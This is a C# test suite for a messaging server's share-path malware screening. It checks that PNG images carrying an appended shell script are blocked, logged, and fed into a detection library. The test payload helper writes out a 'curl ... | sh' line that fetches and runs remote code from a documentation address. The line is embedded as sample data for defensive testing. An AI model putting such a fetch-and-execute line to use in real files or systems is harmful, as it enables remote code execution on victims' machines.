using System.Net;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Parley.Core.Json;
using Parley.Core.Problems;
using Parley.Core.Scanning;
using Parley.Core.Scanning.Features;
using Parley.Core.Transfer;
using Parley.Server.Scanning;
using Parley.Server.Storage;
using Parley.Server.Transfer;
using Parley.Testing;
using Parley.Testing.Scanning;
using static Parley.Server.Tests.Transfer.TransferDriver;

namespace Parley.Server.Tests.Scanning;

/// <summary>
/// The second detection on the share path (docs/scanning.md, "The share path"): blocks at the request that completes
/// the share, nothing delivered or stored, every verdict stored, reuse on dedup, and the payload fed back to clients.
/// The real worker and scanner run; <see cref="CountingScanner"/> only counts the scans they do.
/// </summary>
public sealed class ShareScreeningTests : IAsyncLifetime
{
    /// <summary>A shell script of its own for each test, so that what one test's block taught the library does not catch another's.</summary>
    private static byte[] NewPayload() => System.Text.Encoding.ASCII.GetBytes($"#!/bin/sh\ncurl -s http://203.0.113.9/{Guid.NewGuid():N} | sh\n");

    private readonly CountingScanner.Count _scans = new();
    private RunningServer _server = null!;
    private Api _api = null!;

    public async Task InitializeAsync()
    {
        _server = await RunningServer.StartAsync(configureServices: services => CountingScanner.Wrap(services, _scans));
        _api = new Api(_server);
    }

    public async Task DisposeAsync() => await _server.DisposeAsync();

    /// <summary>A picture that passes every structural check until its end marker, and carries a shell script after it.</summary>
    private static byte[] Carrier(byte[]? payload = null) => [.. NoisePictures.Png(3000), .. payload ?? NewPayload()];

    private async Task<(TestUser Alice, string Room)> Sharer()
    {
        var alice = await _api.NewUser("alice");
        return (alice, (await _api.NewRoom(alice)).Id);
    }

    private static async Task<(string VerdictId, List<ScanFinding> Findings)> AssertBlocked(HttpResponseMessage response)
    {
        var body = await response.Content.ReadAsStringAsync();
        await Api.AssertProblem(response, HttpStatusCode.UnprocessableEntity, ProblemCodes.ShareBlocked);
        var problem = JsonDocument.Parse(body).RootElement;
        var findings = problem.GetProperty(ShareRefusalMembers.Findings).Deserialize<List<ScanFinding>>(ParleyJson.Options)!;
        return (problem.GetProperty(ShareRefusalMembers.VerdictId).GetString()!, findings);
    }

    /// <summary>Announces, proves and uploads the whole file (or the chunks the plan asks for); the answer of the last PATCH.</summary>
    private static async Task<(TransferDto Transfer, HttpResponseMessage Last)> Upload(TestUser user, CreateTransferRequest request, byte[] content)
    {
        var transfer = await CreateAndProve(user, request, content);
        var bytes = UploadBytes(transfer, content, request);
        var location = await StartUpload(user, transfer.Id, bytes.Length);
        return (transfer, await Patch(user, location, 0, bytes));
    }

    private async Task AssertNothingDelivered(TestUser user, string transferId, string contentId, string roomId)
    {
        var transfer = await Api.Read<TransferDto>(await user.Http.GetAsync($"/api/transfers/{transferId}"));
        Assert.Equal((TransferState.Failed, ProblemCodes.ShareBlocked, null, null), (transfer.State, transfer.Failure, transfer.Message, transfer.Ticket));
        Assert.False(await _api.InDatabase(db => db.Blobs.AnyAsync(b => b.Id == contentId)));
        Assert.False(await _api.InDatabase(db => db.Messages.AnyAsync(m => m.RoomId == roomId && m.MediaContentId != null)));
        Assert.False(await _api.InDatabase(db => db.Uploads.AnyAsync(u => u.TransferId == transferId)));
    }

    [Fact]
    public async Task A_picture_with_data_after_its_end_is_blocked_at_the_last_patch_and_nothing_is_delivered()
    {
        var (alice, room) = await Sharer();
        var carrier = Carrier();
        var request = Announce(carrier, room: room);

        var (transfer, last) = await Upload(alice, request, carrier);

        var (verdictId, findings) = await AssertBlocked(last);
        Assert.Contains(findings, f => f is { Code: ScanFindingCodes.DataAfterEnd, Detector: "png" });
        Assert.Contains(findings, f => f.Code == ScanFindingCodes.EmbeddedScript);
        await AssertNothingDelivered(alice, transfer.Id, request.ContentId, room);

        var verdict = await _api.InDatabase(db => db.ScanVerdicts.SingleAsync(v => v.Id == verdictId));
        Assert.Equal((request.ContentId, alice.Id, alice.Device.Id, false, "image/png"), (verdict.ContentId, verdict.UserId, verdict.DeviceId, verdict.Passed, verdict.MediaType));
        var timings = JsonSerializer.Deserialize<List<DetectorTiming>>(verdict.Timings, ParleyJson.Options)!;
        Assert.Equal(["inspector", "magick", "skia"], timings.Select(t => t.Detector).Order());
        Assert.Equal(findings, JsonSerializer.Deserialize<List<ScanFinding>>(verdict.Findings, ParleyJson.Options));
    }

    [Fact]
    public async Task A_clean_picture_passes_is_delivered_and_its_verdict_is_stored()
    {
        var (alice, room) = await Sharer();
        var picture = NoisePictures.Png(5000);
        var library = await LibraryVersion();

        var delivered = await Send(alice, picture, room: room);

        Assert.Equal(TransferState.Delivered, delivered.State);
        var verdict = await _api.InDatabase(db => db.ScanVerdicts.SingleAsync(v => v.ContentId == delivered.ContentId));
        Assert.Equal((true, "[]", library), (verdict.Passed, verdict.Findings, verdict.LibraryVersion));
        Assert.Contains("\"skia\"", verdict.Timings);
    }

    [Fact]
    public async Task A_blocked_share_publishes_features_of_its_payload_and_connected_users_are_told()
    {
        var (alice, room) = await Sharer();
        var bob = await _api.NewUser("bob");
        await using var connection = await _api.ConnectRegistered(bob);
        var updates = Api.Listen<LibraryUpdatedEvent>(connection, LibraryEvents.LibraryUpdated);
        var payload = NewPayload();
        var carrier = Carrier(payload);

        var (_, last) = await Upload(alice, Announce(carrier, room: room), carrier);
        var (verdictId, _) = await AssertBlocked(last);

        var update = await updates.Reader.ReadAsync().AsTask().Within();
        var added = FeatureText.ParseDelta(update.Delta).Added.Select(f => f.Feature).ToList();
        Assert.Equal(FeatureDerivation.FromPayload(payload, "").Select(f => f.Name).Order(), added.Select(f => f.Name).Order());
        Assert.Equal($"verdict {verdictId}", await _api.InDatabase(db => db.FeatureLibraryVersions.Where(v => v.Version == update.Version).Select(v => v.PublishedBy).SingleAsync()));

        // The same payload in another carrier is now caught by the library itself, and teaches nothing new.
        byte[] other = [.. NoisePictures.Png(4000), .. payload];
        var (_, again) = await Upload(alice, Announce(other, room: room), other);
        var (_, findings) = await AssertBlocked(again);
        Assert.Contains(findings, f => f.Code == ScanFindingCodes.FeatureMatch && f.Detail.Contains(added[0].Name[..31]));
        Assert.Equal(update.Version, await LibraryVersion());
    }

    [Fact]
    public async Task A_manifest_upload_of_a_carrier_is_blocked_and_none_of_its_chunks_is_kept()
    {
        var (alice, room) = await Sharer();
        byte[] carrier = [.. NoisePictures.Png(600_000), .. NewPayload()];
        var request = Announce(carrier, room: room, withManifest: true);

        var (transfer, last) = await Upload(alice, request, carrier);

        var (_, findings) = await AssertBlocked(last);
        Assert.Contains(findings, f => f.Code == ScanFindingCodes.DataAfterEnd);
        await AssertNothingDelivered(alice, transfer.Id, request.ContentId, room);
        var chunks = _server.Services.GetRequiredService<ChunkStore>();
        Assert.DoesNotContain(request.Chunks!, c => File.Exists(chunks.PathOf(c.Id)));
    }

    [Fact]
    public async Task A_dedup_hit_is_screened_too_and_refused_at_the_proof()
    {
        var (alice, room) = await Sharer();
        var picture = NoisePictures.Png(20_000);
        await Send(alice, picture, room: room);
        var (bob, bobsRoom) = await Sharer();
        // The stored bytes are a fine PNG; shared as a GIF they are a type mismatch.
        var request = Announce(picture, room: bobsRoom) with { FileName = "cat.gif", MediaType = "image/gif" };

        var announced = await Create(bob, request);
        var proof = await Prove(bob, announced, await Proof(announced, picture));

        var (_, findings) = await AssertBlocked(proof);
        Assert.Contains(findings, f => f.Code == ScanFindingCodes.TypeMismatch);
        var transfer = await Api.Read<TransferDto>(await bob.Http.GetAsync($"/api/transfers/{announced.Id}"));
        Assert.Equal((TransferState.Failed, ProblemCodes.ShareBlocked, DedupTier.Local), (transfer.State, transfer.Failure, transfer.Dedup));
        Assert.False(await _api.InDatabase(db => db.Messages.AnyAsync(m => m.RoomId == bobsRoom)));
    }

    [Fact]
    public async Task A_dedup_hit_at_the_same_library_version_reuses_the_verdict_and_a_new_version_scans_again()
    {
        var (alice, room) = await Sharer();
        var picture = NoisePictures.Png(20_000);
        var contentId = ContentId.Of(picture).ToString();
        await Send(alice, picture, room: room);
        var scans = _scans.Of(contentId);
        Assert.Equal(1, scans);

        var (bob, bobsRoom) = await Sharer();
        Assert.Equal(TransferState.Delivered, (await Send(bob, picture, room: bobsRoom)).State);
        Assert.Equal(1, _scans.Of(contentId));
        var verdicts = await _api.InDatabase(db => db.ScanVerdicts.Where(v => v.ContentId == contentId).OrderBy(v => v.CreatedAt).ToListAsync());
        Assert.Equal([alice.Id, bob.Id], verdicts.Select(v => v.UserId));
        Assert.Equal("[]", verdicts[1].Timings); // no detector ran for the reused verdict

        using (var scope = _server.Services.CreateScope())
            await scope.ServiceProvider.GetRequiredService<FeatureLibraryService>().PublishAsync(scope.ServiceProvider.GetRequiredService<ParleyDbContext>(),
                [new Feature(Api.UniqueName("Parley.Test.Unrelated"), "unrelated", new HashSignature(HashTarget.File, new string('a', 64), 1))], "test", CancellationToken.None);
        var (carol, carolsRoom) = await Sharer();
        Assert.Equal(TransferState.Delivered, (await Send(carol, picture, room: carolsRoom)).State);
        Assert.Equal(2, _scans.Of(contentId));
    }

    [Fact]
    public async Task A_broadcast_upload_of_a_carrier_is_blocked_and_gets_no_ticket()
    {
        var (alice, room) = await Sharer();
        var carrier = Carrier();
        var request = Announce(carrier, room: room) with { ForBroadcast = true };

        var (transfer, last) = await Upload(alice, request, carrier);

        await AssertBlocked(last);
        await AssertNothingDelivered(alice, transfer.Id, request.ContentId, room);
    }

    private async Task<long> LibraryVersion()
    {
        using var scope = _server.Services.CreateScope();
        return (await scope.ServiceProvider.GetRequiredService<FeatureLibraryService>()
            .CurrentAsync(scope.ServiceProvider.GetRequiredService<ParleyDbContext>(), CancellationToken.None)).Version;
    }
}
